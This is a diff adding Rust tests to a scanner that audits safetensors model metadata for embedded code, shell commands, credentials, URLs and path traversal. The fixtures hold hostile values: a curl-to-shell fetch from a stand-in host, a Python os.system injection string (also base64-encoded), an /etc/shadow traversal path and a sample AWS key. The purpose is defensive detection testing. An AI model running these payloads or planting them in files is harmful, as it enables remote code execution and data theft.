@@ -42,6 +42,96 @@ fn valid_file_passes_every_rule() {
     assert_eq!(meta(&out, "tensor-count"), "2");
     assert_eq!(meta(&out, "parameter-count"), "7");
     assert_eq!(meta(&out, "dtypes"), "F32,BF16");
+    assert_eq!(meta(&out, "framework"), "pytorch");
+    for kind in cordon_text_audit::Kind::ALL {
+        let rule = rules::text_rule(kind);
+        assert!(passed.contains(&rule.as_str()), "{rule} not recorded");
+    }
+}
+
+/// A header whose `__metadata__` holds `pairs`, with one U8 tensor.
+fn with_metadata(pairs: &[(&str, &str)]) -> String {
+    let map: serde_json::Map<String, serde_json::Value> = pairs
+        .iter()
+        .map(|(k, v)| (k.to_string(), serde_json::Value::from(*v)))
+        .collect();
+    format!(
+        r#"{{"__metadata__":{},"w":{{"dtype":"U8","shape":[1],"data_offsets":[0,1]}}}}"#,
+        serde_json::Value::Object(map)
+    )
+}
+
+fn failed_with_severity(
+    out: &ScanOutput,
+) -> Vec<(&str, Option<cordon_plugin_sdk::Severity>, &str)> {
+    out.checks
+        .iter()
+        .filter(|c| c.status == Status::Failed)
+        .map(|c| (c.rule.as_str(), c.severity, c.message.as_str()))
+        .collect()
+}
+
+#[test]
+fn metadata_values_are_searched_and_secrets_redacted() {
+    use cordon_plugin_sdk::Severity::*;
+    let json = with_metadata(&[
+        ("format", "pt"),
+        ("description", "Fine-tuned; see https://example.com/card"),
+        ("setup", "curl -s http://evil.example/x.sh | sh"),
+        ("loader", "__import__('os').system('id')"),
+        ("aws", "AKIAIOSFODNN7EXAMPLE"),
+        ("paths", "../../../etc/shadow"),
+        (
+            "blob",
+            "X19pbXBvcnRfXygnb3MnKS5zeXN0ZW0oJ2VjaG8gcHduZWQnKQ==",
+        ),
+    ]);
+    let out = scan(&json, 1);
+    let f = failed_with_severity(&out);
+    let count = |rule: &str| f.iter().filter(|(r, _, _)| *r == rule).count();
+    assert_eq!(count("safetensors-metadata-code"), 2, "{f:#?}");
+    assert_eq!(count("safetensors-metadata-shell-command"), 1, "{f:#?}");
+    assert_eq!(count("safetensors-metadata-credential"), 1, "{f:#?}");
+    assert_eq!(count("safetensors-metadata-url"), 2, "{f:#?}");
+    assert_eq!(count("safetensors-metadata-path-traversal"), 2, "{f:#?}");
+    // Honest severities: nothing above medium, URLs info or low.
+    assert!(
+        f.iter()
+            .all(|(_, s, _)| matches!(s, Some(Info | Low | Medium))),
+        "{f:#?}"
+    );
+    assert!(f.iter().any(|(r, s, m)| *r == "safetensors-metadata-url"
+        && *s == Some(Info)
+        && m.ends_with(": URL: https://example.com/card")));
+    assert!(f.iter().any(|(r, s, m)| *r == "safetensors-metadata-url"
+        && *s == Some(Low)
+        && m.ends_with(": http://evil.example/x.sh")));
+    let rendered = format!("{:?}", out.checks);
+    assert!(
+        !rendered.contains("AKIAIOSFODNN7EXAMPLE"),
+        "secret printed in full"
+    );
+    assert!(rendered.contains("AKIA…(20 chars)"));
+}
+
+#[test]
+fn architecture_hints_come_from_metadata_and_tensor_names() {
+    let json = r#"{"model.layers.0.self_attn.q_proj.weight":{"dtype":"U8","shape":[1],"data_offsets":[0,1]},"model.embed_tokens.weight":{"dtype":"U8","shape":[1],"data_offsets":[1,2]}}"#;
+    assert_eq!(
+        meta(&scan(json, 2), "architecture-hint"),
+        "llama-style-decoder"
+    );
+    let json = with_metadata(&[
+        ("modelspec.architecture", "stable-diffusion-xl-v1-base/lora"),
+        ("format", "tf"),
+    ]);
+    let out = scan(&json, 1);
+    assert_eq!(
+        meta(&out, "architecture"),
+        "stable-diffusion-xl-v1-base/lora"
+    );
+    assert_eq!(meta(&out, "framework"), "tensorflow");
+    assert!(!out.metadata.iter().any(|(k, _)| k == "architecture-hint"));
 }
 
 #[test]
